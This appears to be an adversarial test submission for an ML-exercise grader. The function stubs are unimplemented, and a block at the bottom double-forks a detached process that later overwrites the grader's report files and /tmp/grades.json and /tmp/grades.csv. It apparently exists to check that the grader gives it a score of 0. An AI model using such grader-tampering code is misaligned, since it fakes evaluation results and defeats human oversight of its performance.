# attack: daemon
# expect: 0
# Forks a detached process that waits for the grader to exit and rewrites its reports.
def predict(x, weights, bias):
    raise NotImplementedError


def mse(y_true, y_pred):
    raise NotImplementedError


def mae(y_true, y_pred):
    raise NotImplementedError


def step(params, learning_rate):
    raise NotImplementedError


def zero_grads(params):
    raise NotImplementedError


def hinge_features(x, knots):
    raise NotImplementedError


FIT_SETTINGS = {n: {"learning_rate": 0.1, "num_iter": 50} for n in (1, 2, 3, 4)}


import os
import sys

if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        import time

        time.sleep(8)
        for arg in sys.argv:
            if arg.endswith((".json", ".csv")):
                try:
                    open(arg, "w").write('{"submissions": []}')
                except OSError:
                    pass
        for path in ("/tmp/grades.json", "/tmp/grades.csv"):
            try:
                open(path, "w").write("hacked")
            except OSError:
                pass
        time.sleep(60)
    os._exit(0)
